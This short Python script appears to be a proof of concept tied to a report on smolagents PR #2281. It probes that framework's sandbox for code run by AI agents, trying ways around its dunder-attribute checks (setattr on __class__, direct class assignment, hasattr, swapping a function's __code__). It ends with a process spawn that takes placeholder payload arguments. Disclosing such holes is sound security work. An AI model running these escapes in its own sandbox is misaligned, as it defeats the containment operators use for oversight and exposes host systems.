# Open report (smolagents PR #2281): setattr / hasattr are raw builtins and plain attribute
# assignment skips the dunder check; rewire a user function to a host function's code.
class Holder:
    pass
h = Holder()
def victim():
    return 1
for how in ("setattr-class", "assign-class", "hasattr", "setattr-code"):
    try:
        if how == "setattr-class":
            setattr(h, "__class__", type("X", (), {"__getattr__": lambda self, n: n}))
        elif how == "assign-class":
            h.__class__ = Holder
        elif how == "hasattr":
            print("sees __globals__:", hasattr(victim, "__globals__"))
        else:
            setattr(victim, "__code__", getattr(print, "__code__", None))
            victim()
    except Exception as e:
        print(how, e)
import os
os.posix_spawn(PYTHON, PAYLOAD_ARGV, {})
